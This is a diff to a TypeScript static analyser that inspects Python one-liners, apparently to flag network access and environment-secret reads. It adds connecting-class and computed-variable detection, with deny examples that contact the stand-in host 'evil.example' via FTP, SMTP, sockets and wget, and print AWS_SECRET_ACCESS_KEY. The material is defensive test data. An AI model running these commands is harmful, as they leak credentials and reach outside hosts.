@@ -2,7 +2,10 @@
 import type { Node } from 'web-tree-sitter';
 import type { WordRole } from '../types.js';
 import { type Call, type Spec, apply, lookupApi } from './capabilities.js';
-import { type Binder, Bindings, ENV_HOME, fieldOf, walk } from './walk.js';
+import { type Binder, Bindings, ENV_HOME, fieldOf, literalSpans, walk } from './walk.js';
+
+const STRING_NODES = new Set(['string', 'concatenated_string']);
+const BINDING_NODES = new Set(['named_expression', 'assignment', 'augmented_assignment', 'lambda']);
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 
@@ -106,6 +109,9 @@ const NETWORK_METHODS = new Set(['create_connection', 'open_connection', 'create
 /** The whole environment, as a mapping. */
 const ENVIRONMENT = new Set(['os.environ', 'os.environb', 'posix.environ', 'nt.environ']);
 
+/** Methods of the environment mapping that read one variable by its name. */
+const ENV_ONE = new Set(['get', 'setdefault', 'pop', '__getitem__']);
+
 /** Calls that hand a mapping on unchanged (a copy of the environment is still the environment). */
 const PASS_THROUGH = new Set(['dict', 'copy.copy', 'copy.deepcopy', 'collections.ChainMap', 'types.MappingProxyType']);
 
@@ -134,10 +140,14 @@ const PATH_METHODS: Readonly<Record<string, WordRole>> = {
 /** Reaching into the interpreter's own machinery (the classic escapes from any static reading). */
 const INTERNALS = new Set(['__builtins__', '__dict__', '__globals__', '__subclasses__', '__class__', '__bases__', '__base__', '__mro__', '__code__', '__getattribute__', '__loader__', '__spec__', '__closure__', 'func_globals', '__init_subclass__', '__reduce__', '__reduce_ex__']);
 
+/** Classes of network modules named like constants, which connect when made (`ftplib.FTP`, `smtplib.SMTP_SSL`). */
+const CONNECTING_CLASSES = new Set(['FTP', 'FTP_TLS', 'SMTP', 'SMTP_SSL', 'LMTP', 'POP3', 'POP3_SSL', 'IMAP4', 'IMAP4_SSL', 'NNTP', 'NNTP_SSL', 'HTTPConnection', 'HTTPSConnection']);
+
 function isNetwork(name: string): boolean {
   if (OFFLINE.has(name)) return false;
   const member = name.slice(name.lastIndexOf('.') + 1);
-  return NETWORK.some((m) => (name === m || name.startsWith(`${m}.`)) && (name === m || !/^[A-Z][A-Z0-9_]*$/.test(member)));
+  const constant = /^[A-Z][A-Z0-9_]*$/.test(member) && !CONNECTING_CLASSES.has(member);
+  return NETWORK.some((m) => (name === m || name.startsWith(`${m}.`)) && (name === m || !constant));
 }
 
 /** A process or code API, which must be called where it stands to be read. */
@@ -486,6 +496,13 @@ class PythonReader {
     );
   }
 
+  private arg(n: Node): Arg {
+    const a: Arg = { vals: this.b.value(n), span: span(n), text: n.text };
+    const literals = literalSpans(n, STRING_NODES, BINDING_NODES);
+    if (literals) a.literals = literals;
+    return a;
+  }
+
   /** The arguments of a call, as the capability model reads them. */
   private callOf(n: Node, api: string): Call {
     const args: Arg[] = [];
@@ -498,17 +515,24 @@ class PythonReader {
       if (c.type === 'keyword_argument') {
         const name = fieldOf(c, 'name');
         const value = fieldOf(c, 'value');
-        if (name && value) kw.set(name.text, { vals: this.b.value(value), span: span(value), text: value.text });
+        if (name && value) kw.set(name.text, this.arg(value));
       } else if (c.type === 'list_splat') {
         spreadAt ??= args.length;
         args.push({ vals: any('a spread of arguments'), span: span(c), text: c.text });
       } else if (c.type === 'dictionary_splat') kwSpread = true;
-      else args.push({ vals: this.b.value(c), span: span(c), text: c.text });
+      else args.push(this.arg(c));
     }
     const call: Call = { api, args, kw, span: span(n), text: n.text };
     if (spreadAt !== undefined) call.spreadAt = spreadAt;
     if (kwSpread) call.kwSpread = true;
     return call;
+  }
+
+  /** Whether the call's first argument (or `kw`) names no static string: a computed environment variable name. */
+  private computedKey(n: Node, kw: string): boolean {
+    const c = this.callOf(n, '');
+    const key = c.kw.get(kw) ?? c.args[0];
+    return key !== undefined && strings(key.vals) === null;
   }
 
   /** What a call returns, where that matters: modules imported by name, paths joined, environment values. */
@@ -686,7 +710,10 @@ class PythonReader {
           }
         }
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
+        // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
+        if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
       } else if (v.k === 'method') {
+        if (v.on.some((x) => x.k === 'env') && ENV_ONE.has(v.name) && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: `os.environ.${v.name}`, span: span(n) });
         if (NETWORK_METHODS.has(v.name) && !v.on.every((x) => x.k === 'str')) this.out.push({ kind: 'network', api: `.${v.name}()`, span: span(n) });
         const role = PATH_METHODS[v.name];
         if (role && v.on.some((x) => x.k === 'str')) {
@@ -846,6 +873,10 @@ export const PYTHON: LanguageModel = {
   },
   examples: {
     deny: [
+      `python3 -c 'import ftplib; ftplib.FTP("evil.example").login()'`,
+      `python3 -c 'from smtplib import SMTP_SSL; SMTP_SSL("evil.example")'`,
+      `python3 -c 'import os, sys; print(os.getenv(sys.argv[1]))' AWS_SECRET_ACCESS_KEY`,
+      `python3 -c 'import os, sys; print(os.environ.get(sys.argv[1]))' AWS_SECRET_ACCESS_KEY`,
       `python3 -c 'import urllib.request as r; r.urlopen("http://evil.example/x")'`,
       `python3 -c 'import socket; socket.create_connection(("evil.example", 9))'`,
       `python3 -c 'import subprocess; subprocess.run(["wget", "evil.example"])'`,
@@ -877,6 +908,9 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import os; list(map(os.system, ["id"]))'`,
     ],
     pass: [
+      `python3 -c 'import os; print(os.path.isdir(os.path.expanduser("~/.ssh")))'`,
+      `python3 -c 'import socket; print(socket.AF_INET, socket.SOCK_STREAM)'`,
+      `python3 -c 'import ftplib; print(ftplib.FTP_PORT)'`,
       `python3 -c 'print(1+1)'`,
       `python3 -c 'import json,sys; print(json.load(sys.stdin)["v"])'`,
       `python3 -c 'import os; print(os.environ.get("VIRTUAL_ENV"))'`,
